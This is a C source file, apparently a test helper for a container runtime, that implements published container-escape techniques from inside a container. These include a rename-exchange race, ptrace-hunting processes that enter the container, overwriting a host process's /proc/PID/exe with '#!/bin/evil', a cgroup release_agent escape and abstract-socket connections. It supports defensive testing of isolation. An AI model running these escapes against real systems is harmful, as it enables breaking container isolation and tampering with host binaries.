/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * escape ACTION [ARGUMENT]...: the published ways out of containers of other systems, each as far
 * as a program inside takes part in it. Every action ends in "done" or the name of an error, but
 * those that go on until they are killed.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

/* Two names of a directory take each other's place, again and again. */
static int swap(char **argv)
{
	puts("ready");
	for (;;)
		if (renameat2(AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE) != 0)
			return -1;
}

/* The executable that a process runs, "" if that cannot be told. */
static void read_exe(const char *pid, char exe[PATH_MAX])
{
	char path[PATH_MAX];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	n = readlink(path, exe, PATH_MAX - 1);
	exe[n > 0 ? n : 0] = '\0';
}

/* True if the process is closed to this one as long as it runs what keeps the container. */
static bool is_closed(const char *pid)
{
	static const char *const names[] = {"fd", "fd/0", "cwd/.", "root/.", "exe", "mem", "maps"};
	bool refused = false;
	char path[PATH_MAX], exe[PATH_MAX];

	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		int fd;

		snprintf(path, sizeof(path), "/proc/%s/%s", pid, names[i]);
		fd = open(path, O_RDONLY | O_NONBLOCK);
		refused |= fd < 0 && (errno == EACCES || errno == EPERM);
		read_exe(pid, exe);
		if (fd >= 0 && strstr(exe, "memfd:") != NULL)
			printf("caught %s of %s\n", path, exe);
		if (fd >= 0)
			close(fd);
	}
	return refused;
}

/* A process that can be traced is the tracer's. */
static void try_trace(const char *text)
{
	pid_t pid = (pid_t)strtol(text, NULL, 10);
	char exe[PATH_MAX];
	int status;

	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) != 0)
		return;
	waitpid(pid, &status, 0);
	read_exe(text, exe);
	if (strstr(exe, "memfd:") != NULL)
		printf("caught %s, traced, of %s\n", text, exe);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

/*
 * Tries all processes there are, again and again. Says "met" for each one for which try, which
 * knows what is to be met, is true.
 */
static int try_all(bool (*try)(const char *pid))
{
	long last = 0;

	puts("ready");
	for (;;) {
		DIR *proc = opendir("/proc");
		const struct dirent *e;

		if (proc == NULL)
			return -1;
		while ((e = readdir(proc)) != NULL) {
			long pid = strtol(e->d_name, NULL, 10);

			if (!isdigit(*e->d_name) || !try(e->d_name) || pid == last)
				continue;
			puts("met");
			last = pid;
		}
		closedir(proc);
	}
}

static bool try_to_take(const char *pid)
{
	bool closed;

	if (strtol(pid, NULL, 10) == 1 || strtol(pid, NULL, 10) == getpid())
		return false;
	closed = is_closed(pid);
	try_trace(pid);
	return closed;
}

/*
 * Waits for processes that enter the container, and tries to take hold of them before they have
 * become programs of the container. Those that were found closed are met.
 */
static int hunt(char **argv)
{
	return try_all(try_to_take);
}

/* What keeps the container does not even tell the name of its executable. */
static bool is_of_the_host(const char *pid)
{
	char exe[PATH_MAX];

	errno = 0;
	read_exe(pid, exe);
	return errno == EACCES || errno == EPERM || strstr(exe, "memfd:") != NULL;
}

static bool try_to_write(const char *pid)
{
	char path[PATH_MAX];
	int fd;

	if (!is_of_the_host(pid))
		return false;
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_WRONLY);
	if (fd >= 0 && write(fd, "#!/bin/evil\n", 12) > 0)
		puts("caught it: written");
	if (fd >= 0)
		close(fd);
	if (chmod(path, 0) == 0)
		puts("caught it: its mode");
	return strcmp(pid, "1") != 0; /* that one is always there */
}

/* Tries to write to whatever processes are executing, and to make it no executable. */
static int write_exe(char **argv)
{
	return try_all(try_to_write);
}

/* A program that the host runs when a control group is empty; in new namespaces if those can be. */
static int release_agent(char **argv)
{
	static const char *const controllers[] = {"memory", "rdma", "cpu", "pids", "devices"};
	int fd, errnum = 0;

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) != 0)
		errnum = errno;
	mkdir("/tmp/group", 0700);
	for (size_t i = 0; i < sizeof(controllers) / sizeof(*controllers); i++) {
		if (mount("cgroup", "/tmp/group", "cgroup", 0, controllers[i]) != 0) {
			errnum = errno;
			continue;
		}
		fd = open("/tmp/group/release_agent", O_WRONLY);
		if (fd >= 0 && write(fd, argv[0], strlen(argv[0])) > 0)
			return 0;
		errnum = errno;
	}
	errno = errnum;
	return -1;
}

/* Connects to a Unix socket; a name that begins with '@' is an abstract one. */
static int connect_to(char **argv)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	size_t len = strlen(argv[0]);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (len >= sizeof(address.sun_path))
		return -1;
	memcpy(address.sun_path, argv[0], len);
	if (*argv[0] == '@')
		address.sun_path[0] = '\0';
	return connect(fd, (const struct sockaddr *)&address,
		(socklen_t)(offsetof(struct sockaddr_un, sun_path) + len));
}

static const struct {
	const char *name;
	int arguments;
	int (*run)(char **argv);
} actions[] = {
	{"swap", 2, swap},
	{"hunt", 0, hunt},
	{"write-exe", 0, write_exe},
	{"release-agent", 1, release_agent},
	{"connect", 1, connect_to},
};

int main(int argc, char **argv)
{
	setlinebuf(stdout);
	for (size_t i = 0; i < sizeof(actions) / sizeof(*actions); i++) {
		if (argc != actions[i].arguments + 2 || strcmp(argv[1], actions[i].name) != 0)
			continue;
		puts(actions[i].run(argv + 2) >= 0 ? "done" : strerrorname_np(errno));
		return 0;
	}
	fputs("usage: escape ACTION [ARGUMENT]...\n", stderr);
	return 2;
}
